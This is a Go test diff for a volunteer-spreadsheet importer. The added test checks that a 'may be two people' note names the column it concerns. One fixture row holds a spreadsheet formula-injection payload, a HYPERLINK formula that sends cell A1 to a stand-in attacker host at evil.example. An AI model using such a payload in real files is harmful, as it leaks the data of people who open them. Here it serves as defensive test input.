@@ -1,6 +1,7 @@
 package importer_test
 
 import (
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -24,5 +25,28 @@ func TestActionNetworkExtraColumnsAreNotRead(t *testing.T) {
 	}
 	if want := []string{"What language do you speak at home?", "Can you host a house party?"}; !slices.Equal(in.NotRead, want) {
 		t.Errorf("not read: %q; want %q", in.NotRead, want)
+	}
+}
+
+// TestTwoPeopleNoteNamesTheirColumn: a sign of two people in the family-name column
+// (the & of "Jones & Smith", or of a spreadsheet formula) was said of the first-name
+// column, "Evil" (tester t3's F9): the note names the column that has it.
+func TestTwoPeopleNoteNamesTheirColumn(t *testing.T) {
+	sheet := "First Name,Last Name,Email\n" +
+		"Evil,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",evil@example.org\n" +
+		"Bob & Linda,Jones,jones@example.org\n"
+	in, err := importer.ReadVolunteers(strings.NewReader(sheet), "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, n := range in.ValueNotes {
+		if strings.Contains(n.Why, "may be two people") {
+			got = append(got, fmt.Sprintf("%d:%d:%s:%s", n.Line, n.Column, n.Name, n.Value))
+		}
+	}
+	want := []string{`2:2:Last Name:=HYPERLINK("http://evil.example/?"&A1,"click")`, "3:1:First Name:Bob & Linda"}
+	if !slices.Equal(got, want) {
+		t.Errorf("two-people notes %q; want %q", got, want)
 	}
 }
